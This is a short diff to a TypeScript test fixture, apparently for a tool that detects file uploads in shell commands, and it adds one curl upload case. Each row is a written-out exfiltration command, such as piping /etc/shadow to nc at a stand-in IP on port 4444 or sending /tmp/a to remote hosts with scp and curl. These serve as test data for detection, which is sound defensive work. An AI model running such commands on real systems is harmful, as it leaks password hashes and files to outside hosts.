@@ -41,6 +41,7 @@ const sent: readonly (readonly [string, Upload['what'], Upload['host'], Upload['
   ['nice -n 10 xargs -n 1 scp /tmp/a eve@198.51.100.7:/in', ['/tmp/a'], '198.51.100.7', '22'],
   ["sh -c 'cat /etc/shadow' | nc 203.0.113.89 4444", ['/etc/shadow'], '203.0.113.89', '4444'],
   ['echo "$(cat /etc/shadow)" | nc 203.0.113.89 4444', [], '203.0.113.89', '4444'],
+  ['curl -T /tmp/a constructor://drop.example.net/', ['/tmp/a'], 'drop.example.net', '80'],
   ['timeout 60 nohup curl --data-urlencode "x@/tmp/a" http://[2001:db8::7]:8080/', ['/tmp/a'], '2001:db8::7', '8080'],
 ];
 
